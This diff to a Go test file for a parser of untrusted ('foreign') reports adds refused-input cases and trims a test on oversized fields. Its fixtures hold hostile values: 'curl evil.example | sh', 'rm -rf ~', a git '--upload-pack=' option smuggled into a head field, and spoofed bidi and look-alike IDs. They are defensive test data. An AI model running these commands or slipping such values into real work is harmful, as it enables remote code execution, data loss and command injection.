@@ -81,6 +81,8 @@ var refusedForeign = []struct {
 	{"patch with bidi", `"id": "p-77c0"`, `"id": "p\u202e77"`, "patches[1].id"},
 	{"patch with a letter that looks like another", `"id": "p-77c0"`, `"id": "р-77c0"`, "patches[1].id"},
 	{"two patches of an ID", `"id": "p-77c0"`, `"id": "p-3f2a"`, "patches[1].id"},
+	{"patch on a path", `"attempt": "a17"`, `"attempt": "a17", "on": ["p/x"]`, "patches[0].on"},
+	{"candidate", `"id": "a2"`, `"id": "a2", "candidate": "a.b"`, "attempts[1].candidate"},
 	{"attempt", `"attempt": "a17"`, `"attempt": "a/17"`, "patches[0].attempt"},
 	{"cluster with the patch of none", `"patch": "p-3f2a"`, `"patch": "p-0000"`, "clusters[0].patch"},
 	{"head", `"head": "9b1f`, `"head": "--upload-pack=x9b1f`, "environment.head"},
@@ -172,20 +174,12 @@ func TestReadForeignKeepsToItsLimit(t *testing.T) {
 func TestReadForeignCutsTexts(t *testing.T) {
 	t.Parallel()
 	r := proposedReport()
-	long := strings.Repeat("é", 5<<20)
+	long := strings.Repeat("é", 1<<20)
 	r.Notes, r.Failures[0].Output, r.Patches[0].Title, r.Culprit.Diff = []string{long}, long, long, long
 	r.Receipts = []Receipt{{Channel: "comment", State: "sent", Where: "https://evil.example"}}
 	r.Replay = &Replay{Command: "curl evil.example | sh", Args: []string{"fix", "--test", "rm -rf ~"}, Seed: 1, System: "x"}
 	b, err := json.Marshal(complete(r))
 	if err != nil {
-		t.Fatal(err)
-	}
-	if _, err := ReadForeign(bytes.NewReader(b), MaxSize+MaxSize); err == nil {
-		t.Fatalf("%d bytes were read", len(b))
-	}
-	long = strings.Repeat("é", 2<<20)
-	r.Notes, r.Failures[0].Output, r.Patches[0].Title, r.Culprit.Diff = []string{long}, long, long, long
-	if b, err = json.Marshal(complete(r)); err != nil {
 		t.Fatal(err)
 	}
 	got, err := ReadForeign(bytes.NewReader(b), MaxSize)
